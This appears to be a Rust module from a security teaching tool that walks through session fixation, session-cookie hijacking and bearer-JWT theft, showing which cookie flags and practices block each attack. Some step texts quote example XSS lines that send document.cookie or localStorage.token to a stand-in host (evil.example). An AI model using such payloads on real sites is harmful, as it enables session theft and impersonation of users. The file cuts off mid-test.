//! Session risks as step-through scenarios: session fixation (a server that keeps the planted id
//! versus one that regenerates it at login) and theft (a session cookie with or without
//! `HttpOnly` / `Secure` / `SameSite`, and a bearer JWT), with how long each stolen credential stays
//! useful.
//!
//! Deterministic: every scenario is a function of its inputs; the window steps through `steps`
//! and `tokenbench simulate session-risk` prints them, from the same [`scenario`] and
//! [`RiskSettings`].

use serde::Serialize;

use crate::core::engine::audit::{SameSite, human_duration};
use crate::core::engine::clock::UnixSeconds;
use crate::core::engine::token::{self, Token};
use crate::core::labs::revocation::{self, Strategy};
use crate::core::labs::security::token_times;

/// The lifetime assumed for a stolen JWT whose own cannot be read (no token, an encrypted one, no
/// claims): the typical access token's ([`crate::core::labs::flows::credential::TYPICAL_LIFETIME`]),
/// the one every lab assumes, so Session risks, Leaks and Compare say one figure. The window and
/// the CLI both fall back to it.
pub const FALLBACK_TOKEN_LIFETIME: f64 = crate::core::labs::flows::credential::TYPICAL_LIFETIME as f64;

/// Where [`FALLBACK_TOKEN_LIFETIME`] comes from, after why it is assumed.
fn typical_assumed(why: &str) -> String {
    let sep = if why.ends_with(", so") { " assumed:" } else { ":" };
    format!("{why}{sep} the typical {} access token every lab assumes", human_duration(FALLBACK_TOKEN_LIFETIME))
}

/// The shortest server-side session timeout the scenarios take, seconds: a minute.
pub const MIN_SESSION_TIMEOUT: f64 = 60.0;

/// The session scenarios.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize)]
pub enum ScenarioKind {
    /// Session fixation.
    #[default]
    Fixation,
    /// A stolen session cookie (hijacking).
    CookieTheft,
    /// A stolen bearer JWT.
    JwtTheft,
}

impl ScenarioKind {
    /// Every scenario, in the order the window lists them.
    pub const ALL: [Self; 3] = [Self::Fixation, Self::CookieTheft, Self::JwtTheft];

    /// The command line's name (`--attack NAME`).
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Fixation => "fixation",
            Self::CookieTheft => "hijacking",
            Self::JwtTheft => "jwt-theft",
        }
    }

    /// The scenario a command-line name means.
    #[must_use]
    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|k| k.name() == name)
    }

    /// The scenario's name on its button.
    #[must_use]
    pub fn label(self) -> &'static str {
        match self {
            Self::Fixation => "Session fixation",
            Self::CookieTheft => "Stolen session cookie",
            Self::JwtTheft => "Stolen JWT",
        }
    }
}

/// A defence a scenario can switch on, as the window lists them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Defence {
    /// Fixation: the server issues a new session id at login.
    RegenerateId,
    /// Hijacking: the cookie is `HttpOnly`.
    HttpOnly,
    /// Hijacking: the cookie is `Secure`.
    Secure,
    /// Hijacking: `SameSite=None`.
    SameSiteNone,
    /// Hijacking: `SameSite=Lax`.
    SameSiteLax,
    /// Hijacking: `SameSite=Strict`.
    SameSiteStrict,
}

impl Defence {
    /// Every defence, in the order the window lists them.
    pub const ALL: [Self; 6] =
        [Self::RegenerateId, Self::HttpOnly, Self::Secure, Self::SameSiteNone, Self::SameSiteLax, Self::SameSiteStrict];

    /// The command line's name (`--defence NAME`).
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::RegenerateId => "regenerate-id",
            Self::HttpOnly => "http-only",
            Self::Secure => "secure",
            Self::SameSiteNone => "same-site-none",
            Self::SameSiteLax => "same-site-lax",
            Self::SameSiteStrict => "same-site-strict",
        }
    }

    /// The scenario this defence belongs to.
    #[must_use]
    pub fn scenario(self) -> ScenarioKind {
        match self {
            Self::RegenerateId => ScenarioKind::Fixation,
            _ => ScenarioKind::CookieTheft,
        }
    }

    /// The defences of a scenario's, by name.
    #[must_use]
    pub fn names_for(kind: ScenarioKind) -> Vec<&'static str> {
        Self::ALL.into_iter().filter(|d| d.scenario() == kind).map(Self::name).collect()
    }
}

/// A scenario's settings: what the window's checkboxes hold, what `--defence` flags give.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RiskSettings {
    /// Fixation: does the server regenerate the id at login.
    pub regenerate: bool,
    /// Hijacking: the cookie's flags.
    pub flags: CookieFlags,
}

impl Default for RiskSettings {
    /// No defence at all: the lab's starting point.
    fn default() -> Self {
        Self { regenerate: false, flags: CookieFlags::NONE }
    }
}

impl RiskSettings {
    /// The settings `--defence` names give for `kind`: every name must be one of the kind's
    /// defences, and at most one `SameSite` value.
    ///
    /// # Errors
    /// A message naming `--defence`, the bad value and the allowed ones.
    pub fn from_defence_names(kind: ScenarioKind, names: &[String]) -> Result<Self, String> {
        let allowed = Defence::names_for(kind);
        let mut settings = Self::default();
        let mut same_site: Option<&str> = None;
        for name in names {
            let defence = Defence::ALL.into_iter().find(|d| d.name() == name);
            let defence = match defence {
                Some(d) if d.scenario() == kind => d,
                _ if allowed.is_empty() => {
                    return Err(format!(
                        "--defence {name:?}: --attack {} has no defence to choose (its verdict names them)",
                        kind.name()
                    ));
                }
                Some(_) => {
                    return Err(format!(
                        "--defence {name:?} is not a defence against --attack {}; use one of {}",
                        kind.name(),
                        allowed.join(", ")
                    ));
                }
                None => {
                    return Err(format!(
                        "--defence {name:?} is not a defence; --attack {} takes {}",
                        kind.name(),
                        allowed.join(", ")
                    ));
                }
            };
            let value = match defence {
                Defence::RegenerateId => {
                    settings.regenerate = true;
                    continue;
                }
                Defence::HttpOnly => {
                    settings.flags.http_only = true;
                    continue;
                }
                Defence::Secure => {
                    settings.flags.secure = true;
                    continue;
                }
                Defence::SameSiteNone => SameSite::None,
                Defence::SameSiteLax => SameSite::Lax,
                Defence::SameSiteStrict => SameSite::Strict,
            };
            if let Some(first) = same_site.filter(|first| *first != name) {
                return Err(format!("--defence {name:?}: the cookie already has {first}; give one SameSite value"));
            }
            same_site = Some(name);
            settings.flags.same_site = value;
        }
        Ok(settings)
    }

    /// The defences switched on for `kind`, by name (the inverse of [`Self::from_defence_names`]).
    #[must_use]
    pub fn defence_names(&self, kind: ScenarioKind) -> Vec<&'static str> {
        let on = |d: Defence| match d {
            Defence::RegenerateId => self.regenerate,
            Defence::HttpOnly => self.flags.http_only,
            Defence::Secure => self.flags.secure,
            Defence::SameSiteNone => self.flags.same_site == SameSite::None,
            Defence::SameSiteLax => self.flags.same_site == SameSite::Lax,
            Defence::SameSiteStrict => self.flags.same_site == SameSite::Strict,
        };
        Defence::ALL.into_iter().filter(|d| d.scenario() == kind && on(*d)).map(Defence::name).collect()
    }
}

/// The scenario of `kind` under these settings and lifetimes.
#[must_use]
pub fn scenario(
    kind: ScenarioKind,
    regenerate: bool,
    flags: CookieFlags,
    lifetimes: &SessionLifetimes,
) -> RiskScenario {
    match kind {
        ScenarioKind::Fixation => fixation(regenerate, lifetimes),
        ScenarioKind::CookieTheft => cookie_theft(flags, lifetimes),
        ScenarioKind::JwtTheft => jwt_theft(lifetimes),
    }
}

/// The server's timeouts as the scenarios take them: the idle timeout at least
/// [`MIN_SESSION_TIMEOUT`], the absolute limit at least the idle timeout.
#[must_use]
pub fn session_timeouts(idle: f64, absolute: f64) -> (f64, f64) {
    let idle = idle.max(MIN_SESSION_TIMEOUT);
    (idle, absolute.max(idle))
}

/// Seconds a stolen copy of `token` has left at `now` (`exp` - now, never negative; infinite
/// without `exp`), and where that figure comes from. Without a token, or with one whose claims
/// cannot be read, [`FALLBACK_TOKEN_LIFETIME`].
#[must_use]
pub fn jwt_remaining(token: Option<&Token>, now: UnixSeconds) -> (f64, String) {
    // Whole seconds, as the usefulness bars count them: the header and the bars read one figure.
    let now = now.floor();
    let Some(t) = token else {
        return (FALLBACK_TOKEN_LIFETIME, typical_assumed("no token loaded"));
    };
    match token_times::read(t, now) {
        // Refused by verify, so a stolen copy is refused too: never read as "no exp".
        Err(why) => (0.0, format!("the current token is refused: {why}")),
        Ok(Some(times)) => match (token_times::not_valid_until(&times, now), times.exp) {
            (Some((_, until)), _) => (0.0, format!("the current token is refused at the lab clock: {until}")),
            (None, Some(exp)) => ((exp - now).max(0.0).ceil(), "the current token's exp".to_owned()),
            (None, None) => (f64::INFINITY, "the current token has no exp".to_owned()),
        },
        Ok(None) if t.kind == token::Kind::Jwe => (
            FALLBACK_TOKEN_LIFETIME,
            typical_assumed("the current token is encrypted (JWE): its claims cannot be read without the key, so"),
        ),
        Ok(None) => (FALLBACK_TOKEN_LIFETIME, typical_assumed("no claims in the current token")),
    }
}

/// A lifetime as the lab shows it: a duration, or "until the key is rotated (no exp)".
#[must_use]
pub fn lifetime_text(seconds: f64) -> String {
    if seconds.is_infinite() { "until the key is rotated (no exp)".into() } else { human_duration(seconds) }
}

/// One bar of "how long a stolen credential stays useful".
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct UsefulnessRow {
    /// What was stolen, and what the victim did.
    pub label: &'static str,
    /// Seconds it stays useful (infinite: until the key is rotated; 0 when blocked).
    pub seconds: f64,
    /// The figure as shown ("blocked" when the walk-through ends with nothing stolen).
    pub text: String,
}

/// How long the credential of this walk-through stays useful, as the lab's chart shows it: the
/// scenario's own outcome ([`RiskScenario::useful_for`]) when the victim logs out and when they
/// never do. A blocked attack is 0 s, "blocked", the same run the steps and verdict come from.
#[must_use]
pub fn usefulness(s: &RiskScenario) -> [UsefulnessRow; 2] {
    let (logs_out, never) = match s.kind {
        ScenarioKind::Fixation => ("Planted session id, victim logs out", "Planted session id, never logged out"),
        ScenarioKind::CookieTheft => {
            ("Stolen session cookie, victim logs out", "Stolen session cookie, never logged out")
        }
        ScenarioKind::JwtTheft => ("Stolen JWT, victim logs out", "Stolen JWT, never logged out"),
    };
    let row = |label, seconds, text: String| UsefulnessRow { label, seconds, text };
    let Some(useful) = s.useful_for else {
        // Nothing was stolen: blocked, or (CSRF) ridden without a copy.
        let text = if s.attacker_wins { "nothing stolen (requests ride the session)" } else { "blocked" };
        return [row(logs_out, 0.0, text.to_owned()), row(never, 0.0, text.to_owned())];
    };
    if useful <= 0.0 {
        let text = "0 s (refused: past exp)".to_owned();
        return [row(logs_out, 0.0, text.clone()), row(never, 0.0, text)];
    }
    match s.kind {
        // The server holds the session: a logout deletes it, and the copy with it.
        ScenarioKind::Fixation | ScenarioKind::CookieTheft => {
            [row(logs_out, 0.0, "0 s (deleted on the server)".to_owned()), row(never, useful, lifetime_text(useful))]
        }
        // Nothing on the server to delete: a logout changes nothing.
        ScenarioKind::JwtTheft => [
            row(logs_out, useful, format!("{} (logout does not end it)", lifetime_text(useful))),
            row(never, useful, lifetime_text(useful)),
        ],
    }
}

/// Who acts in a step.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Actor {
    /// The user being attacked.
    Victim,
    /// The attacker.
    Attacker,
    /// The application's server.
    Server,
    /// The victim's browser.
    Browser,
}

impl Actor {
    /// A name for the step list.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Victim => "Victim",
            Self::Attacker => "Attacker",
            Self::Server => "Server",
            Self::Browser => "Browser",
        }
    }
}

/// One step of a scenario.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Step {
    /// Who acts.
    pub actor: Actor,
    /// What happens.
    pub text: String,
    /// `Some(true)` when this step is where the attacker gains, `Some(false)` where a defence
    /// stops them, `None` for neutral steps.
    pub attacker_gains: Option<bool>,
}

fn step(actor: Actor, text: impl Into<String>, attacker_gains: Option<bool>) -> Step {
    Step { actor, text: text.into(), attacker_gains }
}

/// A session-risk scenario walked through, and how it ends.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct RiskScenario {
    /// Which scenario.
    pub kind: ScenarioKind,
    /// Title.
    pub title: String,
    /// The steps, in order.
    pub steps: Vec<Step>,
    /// True when the attacker ends up acting as the victim.
    pub attacker_wins: bool,
    /// How long the stolen credential stays useful, in seconds (`None`: not stolen; infinite
    /// lifetimes are `f64::INFINITY`).
    pub useful_for: Option<f64>,
    /// One line: the outcome.
    pub verdict: String,
    /// The defence.
    pub defence: &'static str,
}

impl RiskScenario {
    /// The steps (numbered from 1) where the attacker gains.
    #[must_use]
    pub fn gaining_steps(&self) -> Vec<usize> {
        self.steps_where(true)
    }

    /// The steps (numbered from 1) where a defence stops the attacker.
    #[must_use]
    pub fn blocked_steps(&self) -> Vec<usize> {
        self.steps_where(false)
    }

    fn steps_where(&self, gains: bool) -> Vec<usize> {
        self.steps.iter().enumerate().filter(|(_, s)| s.attacker_gains == Some(gains)).map(|(i, _)| i + 1).collect()
    }
}

/// Session fixation: the attacker obtains a session id, plants it in the victim's browser, the
/// victim logs in. `regenerate` is whether the server issues a new id at login.
#[must_use]
pub fn fixation(regenerate: bool, session: &SessionLifetimes) -> RiskScenario {
    let mut steps = vec![
        step(Actor::Attacker, "Visits the site and receives an anonymous session id: sid=A7f3…", None),
        step(
            Actor::Attacker,
            "Plants sid=A7f3… in the victim's browser: a link with the id in the URL, or a cookie set from a \
             sibling subdomain (Domain=.example.com)",
            Some(true),
        ),
        step(Actor::Victim, "Opens the site with the planted id and logs in with their password", None),
    ];
    let useful = if regenerate {
        steps.push(step(
            Actor::Server,
            "Login succeeds: the server discards sid=A7f3… and issues a fresh random id, sid=Q9k2…",
            Some(false),
        ));
        steps.push(step(
            Actor::Attacker,
            "Sends requests with sid=A7f3…: the server knows it only as an anonymous (now destroyed) session",
            Some(false),
        ));
        None
    } else {
        steps.push(step(
            Actor::Server,
            "Login succeeds: the server marks the EXISTING session sid=A7f3… as authenticated",
            Some(true),
        ));
        steps.push(step(
            Actor::Attacker,
            "Sends requests with sid=A7f3…, which they chose: they are logged in as the victim without ever \
             seeing a password or a cookie",
            Some(true),
        ));
        Some(session.stolen_session_useful_for())
    };
    let verdict = match useful {
        None => "Blocked: the id the attacker knows was never authenticated.".to_owned(),
        Some(s) => format!(
            "The attacker is the victim until the session ends: {} (idle timeout {}, absolute limit {}), or at once \
             when the victim logs out, since the server holds the session",
            human_duration(s),
            human_duration(session.idle_timeout),
            human_duration(session.absolute_timeout)
        ),
    };
    RiskScenario {
        kind: ScenarioKind::Fixation,
        title: format!(
            "Session fixation, server {}",
            if regenerate { "regenerates the id at login" } else { "keeps the id at login" }
        ),
        steps,
        attacker_wins: useful.is_some(),
        useful_for: useful,
        verdict,
        defence: "Issue a new session id at every privilege change (login, sudo, logout); refuse ids the \
                  server did not issue; never accept ids from the URL; use the __Host- cookie prefix so \
                  subdomains cannot set it.",
    }
}

/// The flags of the session cookie under test.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct CookieFlags {
    /// `HttpOnly`.
    pub http_only: bool,
    /// `Secure`.
    pub secure: bool,
    /// `SameSite`.
    pub same_site: SameSite,
}

impl CookieFlags {
    /// No flag at all: `HttpOnly` and `Secure` off, `SameSite` unset.
    pub const NONE: Self = Self { http_only: false, secure: false, same_site: SameSite::Unset };
}

impl Default for CookieFlags {
    fn default() -> Self {
        Self { http_only: true, secure: true, same_site: SameSite::Lax }
    }
}

/// How long sessions and tokens live, the inputs to "how long does the stolen thing work".
#[derive(Debug, Clone, Copy, PartialEq, Serialize, serde::Deserialize)]
pub struct SessionLifetimes {
    /// Server-side idle timeout of a session, seconds.
    pub idle_timeout: f64,
    /// Server-side absolute session limit, seconds.
    pub absolute_timeout: f64,
    /// Seconds the stolen JWT has left (exp - now); infinite when it has no exp.
    pub jwt_remaining: f64,
}

impl Default for SessionLifetimes {
    fn default() -> Self {
        // OWASP's usual figures: 30 min idle, 8 h absolute; the typical 15 min access token.
        Self { idle_timeout: 1800.0, absolute_timeout: 8.0 * 3600.0, jwt_remaining: FALLBACK_TOKEN_LIFETIME }
    }
}

impl SessionLifetimes {
    /// How long a stolen session cookie keeps working when the attacker keeps it busy and nobody
    /// revokes it: the revocation lab's `session` strategy ([`crate::core::labs::revocation`]) with the
    /// absolute limit as the session's lifetime (the attacker's own requests keep an idle
    /// timeout from firing). A logout or a detected theft would end it at once (exposure 0).
    #[must_use]
    pub fn stolen_session_useful_for(&self) -> f64 {
        stolen_credential_useful_for(Strategy::Session, self.absolute_timeout)
    }

    /// How long a stolen JWT keeps working: the revocation lab's `jwt` strategy over the token's
    /// remaining lifetime (a plain JWT cannot be recalled; logout does not end it). Infinite
    /// for a token without `exp`.
    #[must_use]
    pub fn stolen_jwt_useful_for(&self) -> f64 {
        stolen_credential_useful_for(Strategy::Jwt, self.jwt_remaining)
    }
}

/// How long a copy taken at the start of a credential's life of `lifetime` seconds stays
/// accepted under `strategy`, when nothing is revoked: the end of the revocation model's last
/// span for the copy (a token-stolen scenario whose event comes when everything has expired).
fn stolen_credential_useful_for(strategy: Strategy, lifetime: f64) -> f64 {
    if lifetime.is_nan() || lifetime <= 0.0 {
        return 0.0;
    }
    if lifetime > (revocation::MAX_TIME / 4) as f64 {
        return f64::INFINITY;
    }
    #[allow(clippy::cast_possible_truncation)]
    let ttl = lifetime.ceil() as i64;
    let login_at = 1_700_000_000;
    let scenario = revocation::RevocationScenario {
        name: String::new(),
        description: String::new(),
        login_at,
        token_ttl: ttl,
        access_ttl: ttl,
        leeway: 0,
        event: revocation::Event {
            kind: revocation::EventKind::TokenStolen,
            at: login_at + ttl,
            stolen_at: Some(login_at),
        },
        scale: None,
    };
    let sim = revocation::simulate(&scenario);
    let until = sim.outcome(strategy).subject.iter().map(|span| span.until).max().unwrap_or(login_at);
    (until.min(revocation::MAX_TIME) - login_at).max(0) as f64
}

/// Theft of a session cookie with the given flags: an XSS payload, a sniffer on an open network,
/// and a cross-site request from the attacker's page.
#[must_use]
pub fn cookie_theft(flags: CookieFlags, lifetimes: &SessionLifetimes) -> RiskScenario {
    let mut steps = vec![step(
        Actor::Victim,
        format!(
            "Logs in; the server sets the session cookie sid=…; {}{}SameSite={}",
            if flags.http_only { "HttpOnly; " } else { "" },
            if flags.secure { "Secure; " } else { "" },
            match flags.same_site {
                SameSite::Strict => "Strict",
                SameSite::Lax => "Lax",
                SameSite::None => "None",
                SameSite::Unset => "(unset)",
            }
        ),
        None,
    )];
    steps.push(step(
        Actor::Attacker,
        "Injects a script into a page the victim views (stored XSS): fetch('//evil.example/?c=' + document.cookie)",
        None,
    ));
    let xss = !flags.http_only;
    steps.push(if xss {
        step(Actor::Browser, "document.cookie includes sid: the cookie is sent to the attacker", Some(true))
    } else {
        step(Actor::Browser, "HttpOnly: document.cookie does not include sid; the script gets nothing", Some(false))
    });
    steps.push(step(
        Actor::Attacker,
        "Listens on the café's open Wi-Fi and lures the victim to any http:// URL of the site",
        None,
    ));
    let sniffed = !flags.secure;
    steps.push(if sniffed {
        step(Actor::Browser, "No Secure flag: the cookie travels in clear over http:// and is captured", Some(true))
    } else {
        step(Actor::Browser, "Secure: the cookie is only ever sent over HTTPS; nothing to capture", Some(false))
    });
    steps.push(step(
        Actor::Attacker,
        "Makes the victim's browser POST to the site from evil.example (CSRF): no theft, the request rides the session",
        None,
    ));
    let csrf = matches!(flags.same_site, SameSite::None | SameSite::Unset);
    steps.push(match flags.same_site {
        SameSite::None => step(Actor::Browser, "SameSite=None: the cookie goes along; the forged request runs as the victim", Some(true)),
        SameSite::Unset => step(
            Actor::Browser,
            "No SameSite: most browsers treat it as Lax now, but not all, and Chrome sends it on cross-site POSTs for 2 minutes after it was set",
            Some(true),
        ),
        SameSite::Lax => step(Actor::Browser, "SameSite=Lax: not sent on cross-site POSTs (only on top-level GET navigation)", Some(false)),
        SameSite::Strict => step(Actor::Browser, "SameSite=Strict: never sent on cross-site requests", Some(false)),
    });
    let stolen = xss || sniffed;
    let useful = stolen.then(|| lifetimes.stolen_session_useful_for());
    if stolen {
        steps.push(step(
            Actor::Attacker,
            "Replays the stolen sid from their own machine: the server cannot tell them from the victim",
            Some(true),
        ));
        steps.push(step(
            Actor::Server,
            "The victim clicks Log out (or an admin revokes the session): the server deletes the session; the stolen sid stops working at once",
            Some(false),
        ));
    }
    let verdict = match (stolen, csrf) {
        (true, _) => format!(
            "Stolen. Useful for up to {} (the session's absolute limit; each request resets the {} idle timeout) — \
             and not a second more once the session is deleted on the server",
            human_duration(useful.unwrap_or(0.0)),
            human_duration(lifetimes.idle_timeout)
        ),
        (false, true) => "Not stolen, but cross-site requests still act as the victim (CSRF).".to_owned(),
        (false, false) => "Blocked: the cookie can be neither read, sniffed nor ridden.".to_owned(),
    };
    RiskScenario {
        kind: ScenarioKind::CookieTheft,
        title: "Hijacking a session cookie".into(),
        steps,
        attacker_wins: stolen || csrf,
        useful_for: useful,
        verdict,
        defence: "Set-Cookie: __Host-sid=<128+ random bits>; Path=/; Secure; HttpOnly; SameSite=Lax (or Strict); \
                  short idle and absolute timeouts; delete the session on logout.",
    }
}

/// Theft of a bearer JWT kept where scripts can read it (localStorage, as most SPAs do).
#[must_use]
pub fn jwt_theft(lifetimes: &SessionLifetimes) -> RiskScenario {
    let useful = lifetimes.stolen_jwt_useful_for();
    // A copy of a token already past exp is refused like any expired token: exp is the one
    // thing that ends a JWT, and here it has.
    let live = useful > 0.0;
    let replay = if live {
        step(Actor::Attacker, "Sends Authorization: Bearer <token> from anywhere: the signature is genuine", Some(true))
    } else {
        step(Actor::Attacker, "Sends Authorization: Bearer <token>: refused, its exp has passed", Some(false))
    };
    let keeps = if live {
        step(Actor::Server, "Keeps accepting the token: it verifies it statelessly until exp", Some(true))
    } else {
        step(Actor::Server, "Refuses it as expired, as it refuses every token past exp", Some(false))
    };
    let steps = vec![
        step(Actor::Victim, "Logs in; the SPA stores the access token (a JWT) in localStorage", None),
        step(Actor::Attacker, "Injects a script (XSS): fetch('//evil.example/?t=' + localStorage.token)", None),
        step(Actor::Browser, "localStorage has no HttpOnly: the token is sent to the attacker", Some(true)),
        replay,
        step(Actor::Victim, "Clicks Log out: the SPA deletes its copy; the server keeps no session to delete", None),
        keeps,
    ];
    let verdict = if useful.is_infinite() {
        format!(
            "Stolen, and never expiring: the token has no exp, so {}; nothing on the server can recall it.",
            crate::core::labs::revocation::NO_EXP_CONSEQUENCE
        )
    } else if live {
        format!(
            "Stolen. Useful for {} (until exp), whatever the victim does: logout does not end a JWT",
            human_duration(useful)
        )
    } else {
        "Stolen, but useless: the token had expired, and exp is the one thing that ends a JWT. A live one would \
         have worked until its exp, whatever the victim did."
            .to_owned()
    };
    RiskScenario {
        kind: ScenarioKind::JwtTheft,
        title: "Stealing a bearer JWT".into(),
        steps,
        attacker_wins: live,
        useful_for: Some(useful),
        verdict,
        defence: "Short access-token lifetimes (minutes) with rotated refresh tokens; a denylist (jti) or a token \
                  version per user for logout; keep tokens out of script reach (HttpOnly cookie + CSRF defence, or \
                  a backend-for-frontend); sender-constrained tokens (DPoP, mTLS).",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    #[allow(clippy::float_cmp)] // whole seconds, exact in f64
    fn usefulness_comes_from_the_revocation_model() {
        let l = SessionLifetimes { idle_timeout: 1800.0, absolute_timeout: 28_800.0, jwt_remaining: 899.5 };
        assert_eq!(l.stolen_session_useful_for(), 28_800.0, "the session strategy: until its absolute limit");
        assert_eq!(l.stolen_jwt_useful_for(), 900.0, "the jwt strategy counts whole seconds until exp");
        let forever = SessionLifetimes { jwt_remaining: f64::INFINITY, ..l };
        assert_eq!(forever.stolen_jwt_useful_for(), f64::INFINITY, "no exp: never ends");
        let spent = SessionLifetimes { jwt_remaining: -5.0, ..l };
        assert_eq!(spent.stolen_jwt_useful_for(), 0.0, "already expired");
        let theft = jwt_theft(&spent);
        assert!(!theft.attacker_wins, "a copy past exp is refused");
        assert!(theft.verdict.starts_with("Stolen, but useless"), "{}", theft.verdict);
        assert_eq!(theft.steps[3].attacker_gains, Some(false));
        assert_eq!(SessionLifetimes { jwt_remaining: f64::NAN, ..l }.stolen_jwt_useful_for(), 0.0);
    }

    #[test]
    fn fixation_depends_on_regeneration() {
        let l = SessionLifetimes::default();
        let kept = fixation(false, &l);
        assert!(kept.attacker_wins);
        assert_eq!(kept.useful_for, Some(8.0 * 3600.0));
        assert!(kept.verdict.contains("8 h"), "{}", kept.verdict);
        let regenerated = fixation(true, &l);
        assert!(!regenerated.attacker_wins && regenerated.useful_for.is_none());
        assert_eq!(regenerated.steps.last().unwrap().attacker_gains, Some(false));
    }

    #[test]
    fn cookie_flags_decide_each_theft_vector() {
        let l = SessionLifetimes::default();
        let safe = cookie_theft(CookieFlags::default(), &l);
        assert!(!safe.attacker_wins && safe.useful_for.is_none(), "{}", safe.verdict);
        let no_httponly = cookie_theft(CookieFlags { http_only: false, ..CookieFlags::default() }, &l);
        assert!(no_httponly.attacker_wins && no_httponly.useful_for == Some(l.absolute_timeout));
        assert!(no_httponly.steps.iter().any(|s| s.text.contains("document.cookie includes sid")));
        let no_secure = cookie_theft(CookieFlags { secure: false, ..CookieFlags::default() }, &l);
        assert!(no_secure.steps.iter().any(|s| s.text.contains("captured")));
        let csrf_only = cookie_theft(CookieFlags { same_site: SameSite::None, ..CookieFlags::default() }, &l);
        assert!(csrf_only.attacker_wins && csrf_only.useful_for.is_none(), "CSRF rides, does not steal");
    }

    #[test]
    fn a_stolen_jwt_lives_until_exp_and_a_session_until_the_server_ends_it() {
        let l = SessionLifetimes { idle_timeout: 900.0, absolute_timeout: 3600.0, jwt_remaining: 86_400.0 };
        let jwt = jwt_theft(&l);
        assert_eq!(jwt.useful_for, Some(86_400.0));
        assert!(jwt.verdict.contains("1 day"), "{}", jwt.verdict);
        let forever = jwt_theft(&SessionLifetimes { jwt_remaining: f64::INFINITY, ..l });
        assert!(forever.verdict.contains("never expiring"), "{}", forever.verdict);
        assert!(forever.verdict.contains(crate::core::labs::revocation::NO_EXP_CONSEQUENCE));
        let cookie = cookie_theft(CookieFlags { http_only: false, ..CookieFlags::default() }, &l);
        assert_eq!(cookie.useful_for, Some(3600.0));
    }

    #[test]
    fn defence_names_map_to_the_windows_settings_and_bad_ones_are_named() {
        let names = |v: &[&str]| v.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
        let fixation = RiskSettings::from_defence_names(ScenarioKind::Fixation, &names(&["regenerate-id"])).unwrap();
        assert!(fixation.regenerate);
        assert_eq!(fixation.flags, CookieFlags::NONE);
        let all = names(&["http-only", "secure", "same-site-strict"]);
        let cookie = RiskSettings::from_defence_names(ScenarioKind::CookieTheft, &all).unwrap();
        assert_eq!(cookie.flags, CookieFlags { http_only: true, secure: true, same_site: SameSite::Strict });
        assert_eq!(cookie.defence_names(ScenarioKind::CookieTheft), ["http-only", "secure", "same-site-strict"]);
        let none = RiskSettings::from_defence_names(ScenarioKind::CookieTheft, &[]).unwrap();
        assert_eq!(none, RiskSettings::default());
        let e = RiskSettings::from_defence_names(ScenarioKind::Fixation, &names(&["httponly"])).unwrap_err();
        assert_eq!(e, "--defence \"httponly\" is not a defence; --attack fixation takes regenerate-id");
        let e = RiskSettings::from_defence_names(ScenarioKind::Fixation, &names(&["secure"])).unwrap_err();
        assert_eq!(e, "--defence \"secure\" is not a defence against --attack fixation; use one of regenerate-id");
        let e =
            RiskSettings::from_defence_names(ScenarioKind::CookieTheft, &names(&["same-site-lax", "same-site-none"]))
                .unwrap_err();
        assert!(e.contains("already has same-site-lax"), "{e}");
        let e = RiskSettings::from_defence_names(ScenarioKind::JwtTheft, &names(&["secure"])).unwrap_err();
        assert!(e.contains("--attack jwt-theft has no defence to choose"), "{e}");
        for kind in ScenarioKind::ALL {
            assert_eq!(ScenarioKind::from_name(kind.name()), Some(kind));
        }
    }

    #[test]
    #[allow(clippy::float_cmp)] // whole seconds, exact in f64
    fn the_chart_comes_from_the_walk_throughs_own_run() {
        let l = SessionLifetimes::default();
        let kept = usefulness(&fixation(false, &l));
        assert_eq!(kept.clone().map(|r| r.text), ["0 s (deleted on the server)", "8 h"]);
        assert_eq!(kept.map(|r| r.seconds), [0.0, 28_800.0]);
        let regenerated = usefulness(&fixation(true, &l));
        assert_eq!(regenerated.clone().map(|r| r.text), ["blocked", "blocked"]);
        assert_eq!(regenerated.map(|r| r.seconds), [0.0, 0.0]);
        let safe = usefulness(&cookie_theft(CookieFlags::default(), &l));
        assert_eq!(
            safe.map(|r| (r.label, r.text)),
            [
                ("Stolen session cookie, victim logs out", "blocked".to_owned()),
                ("Stolen session cookie, never logged out", "blocked".to_owned())
            ]
        );
        let csrf = usefulness(&cookie_theft(CookieFlags { same_site: SameSite::None, ..CookieFlags::default() }, &l));
        assert_eq!(csrf[1].text, "nothing stolen (requests ride the session)");
        let expired = usefulness(&jwt_theft(&SessionLifetimes { jwt_remaining: 0.0, ..l }));
        assert_eq!(expired.map(|r| r.text), ["0 s (refused: past exp)", "0 s (refused: past exp)"]);
    }

    #[test]
    fn the_steps_say_where_the_attacker_gains_and_where_a_defence_stops_them() {
        let l = SessionLifetimes::default();
        let regenerated = fixation(true, &l);
        assert_eq!(regenerated.blocked_steps(), [4, 5]);
        assert_eq!(regenerated.gaining_steps(), [2]);
        let half = cookie_theft(CookieFlags { http_only: true, ..CookieFlags::NONE }, &l);
        assert_eq!(half.blocked_steps(), [3, 9]);
        assert_eq!(half.gaining_steps(), [5, 7, 8]);
    }

    #[test]
    fn without_a_readable_lifetime_the_typical_15_min_token_is_assumed() {
        let (none, why) = jwt_remaining(None, 0.0);
        assert!((none - 900.0).abs() < f64::EPSILON, "{none}");
        assert_eq!(why, "no token loaded: the typical 15 min access token every lab assumes");
        let l = SessionLifetimes::default();
        let rows = usefulness(&jwt_theft(&l));
        assert_eq!(rows.map(|r| r.text), ["15 min (logout does not end it)", "15 min"]);
        assert_eq!(session_timeouts(10.0, 30.0), (MIN_SESSION_TIMEOUT, MIN_SESSION_TIMEOUT));
    }

    #[test]
    fn a_wrongly_typed_exp_or_a_future_nbf_is_refused_never_no_exp() {
        let key =
            crate::core::engine::keys::load_secret(b"k", crate::core::engine::keys::SecretEncoding::Raw, "t").unwrap();
        let jwt = |v: serde_json::Value| {
